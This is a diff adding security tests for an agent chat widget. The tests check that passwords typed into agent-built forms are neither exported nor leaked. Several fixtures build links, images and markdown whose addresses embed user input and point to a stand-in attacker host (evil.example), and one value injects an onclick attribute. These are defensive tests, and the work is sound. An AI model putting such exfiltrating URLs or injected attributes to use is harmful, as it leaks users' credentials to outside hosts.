@@ -1299,6 +1299,102 @@ describe('a hostile surface in the widget', () => {
     expect(exported).to.contain('Sign in').and.not.contain('hunter2');
   });
 
+  const signIn = (context: object, root: readonly string[] = ['p', 'go']): object =>
+    components([
+      { id: 'root', ...column(...root) },
+      { id: 'p', component: 'TextField', label: 'Password', variant: 'obscured', value: { path: '/form/p' } },
+      text('l', 'Sign in'),
+      { id: 'go', component: 'Button', child: 'l', action: { event: { name: 'go', context } } },
+    ]);
+  for (const [name, context, said, more = {}, later = []] of [
+    ['with the data of the surface', {}, 'Sign in', { sendDataModel: true }],
+    ['inside of a value', { form: { path: '/form' } }, 'Sign in'],
+    ['beside other values', { login: { user: 'ann', p: { path: '/form/p' } } }, 'Sign in'],
+    ['in a text', { login: { call: 'formatString', args: { value: '${/form/p}' } } }, 'Sign in'],
+    [
+      'from a page before this one',
+      {},
+      'Sign in\nuser: ann',
+      {},
+      [signIn({ login: { path: '/form/p' }, user: 'ann' }, ['go'])],
+    ],
+  ] as const)
+    it(`rule 30: a password that is sent ${name} is neither shown nor stored`, async () => {
+      const first = [create('s', more), signIn(context)];
+      const { chat, element } = await show(first);
+      enter(control(element, 'Password'), 'hunter2');
+      const host = element.closest<AgentChatSurface>('agent-chat-surface')!;
+      await host.updateComplete;
+      if (later.length > 0) {
+        update(chat, [{ type: 'ui', id: 'u', ui: { kind: 'a2ui', messages: [...first, ...later] } }]);
+        await waitUntil(() => !has(chat, 'agent-chat-surface input'));
+      }
+      const emitted = next(chat, 'agent-chat-action');
+      named(element, 'Sign in').click();
+      const { payload } = (await emitted).detail;
+      expect(JSON.stringify(payload)).to.contain('hunter2');
+      expect((payload as { text: string }).text).to.equal(said);
+      await waitUntil(() => chat.messages.length > 1);
+      const exported = await chat.exportConversation('json');
+      expect(exported).to.contain('Sign in').and.not.contain('hunter2');
+    });
+
+  for (const [label, variant, shown] of [
+    ['Code', 'shortText', 'Continue (evil.example)'],
+    ['Password', 'obscured', 'Continue'],
+  ] as const)
+    it(`rule 76: a link whose address contains what the user types shows its host, or leads nowhere: ${variant}`, async () => {
+      const { element } = await show(
+        surface(
+          column('p', 'go', 'help'),
+          { id: 'p', component: 'TextField', label, variant, value: { path: '/p' } },
+          text('l', 'Continue'),
+          text('h', 'Help'),
+          ...[
+            ['go', 'l', 'https://evil.example/?q=${/p}'],
+            ['help', 'h', 'https://help.example/'],
+          ].map(([id, child, url]) => ({
+            id,
+            component: 'Button',
+            child,
+            action: { functionCall: { call: 'openUrl', args: { url } } },
+          })),
+        ),
+      );
+      const links = (): readonly string[] =>
+        [...element.querySelectorAll('a.button, .real-host')].map((part) => wordsIn(part));
+      expect(links()).to.deep.equal(['Continue', 'Help']);
+      enter(control(element, label), 'hunter2');
+      await element.closest<AgentChatSurface>('agent-chat-surface')?.updateComplete;
+      expect(links()).to.deep.equal(variant === 'obscured' ? ['Help'] : ['Continue', '(evil.example)', 'Help']);
+      expect(wordsIn(element)).to.contain(shown);
+    });
+
+  for (const variant of ['shortText', 'obscured'])
+    it(`rule 76: what the user types is sent to no host by an image or a link in a text: ${variant}`, async () => {
+      const address = 'https://evil.example/${/p}';
+      const formatted = (value: string): object => ({ call: 'formatString', args: { value } });
+      const texts = [`![a](${address}.png)`, `[b](${address})`, `[c]\n\n[c]: ${address}`, `<a href="${address}">d</a>`];
+      const { element } = await show(
+        surface(
+          column('p', 'image', ...texts.map((_, id) => String(id))),
+          { id: 'p', component: 'TextField', label: 'P', variant, value: { path: '/p' } },
+          { id: 'image', component: 'Image', url: formatted(`${address}.png`) },
+          ...texts.map((value, id) => ({ id: String(id), component: 'Text', text: formatted(value) })),
+        ),
+        { imageHosts: 'evil.example' },
+      );
+      const addresses = (): readonly string[] =>
+        [...element.querySelectorAll('[href], [src]')].map(
+          (one) => `${one.getAttribute('href')} ${one.getAttribute('src')}`,
+        );
+      await waitUntil(() => addresses().length > 0);
+      enter(control(element, 'P'), 'hunter2');
+      await element.closest<AgentChatSurface>('agent-chat-surface')?.updateComplete;
+      await waitUntil(() => wordsIn(element).includes('hunter2'));
+      expect(addresses().join(' ')).not.to.contain('hunter2');
+    });
+
   it('values never become a style, a class, or a form address', async () => {
     const bad = 'x" onclick="hit()" style="position:fixed';
     const { element } = await show([
